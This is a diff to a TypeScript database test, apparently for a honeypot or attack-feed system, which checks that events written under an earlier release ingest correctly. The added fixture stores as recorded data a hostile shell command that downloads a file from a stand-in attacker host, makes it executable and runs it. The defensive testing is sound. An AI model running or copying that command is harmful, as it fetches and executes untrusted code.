@@ -191,7 +191,8 @@ describe.each(inject('postgresServers'))('data of an earlier release on $version
     const database = openDatabase({ connectionString: url }, silent('test'), () => {})
     opened.push(database)
     const text = readFileSync(new URL('0.1.0/ingest-write.sql', HERE), 'utf8')
-    const event = anEvent({ received_at: new Date().toISOString() })
+    const command = 'wget http://evil.ru/x; chmod 777 x; ./x'
+    const event = anEvent({ received_at: new Date().toISOString(), event_type: 'command', command })
     const plan = planCommit([event], new Map(), createRuleScorer())
     const write = () =>
       database.ingest.query({
@@ -215,6 +216,8 @@ describe.each(inject('postgresServers'))('data of an earlier release on $version
       text: 'SELECT last_seen_slot = seen_slot(last_seen_at) AS in_its_slot FROM attackers',
     })
     expect(attacker).toEqual({ in_its_slot: true })
+    const sources = await database.app.query({ text: 'SELECT value, sensor_id FROM feed_sources' })
+    expect(sources).toEqual([{ value: event.source_ip, sensor_id: event.sensor_id }])
     expect(isConflict(await write().catch((error: unknown) => error))).toBe(true)
   })
 })
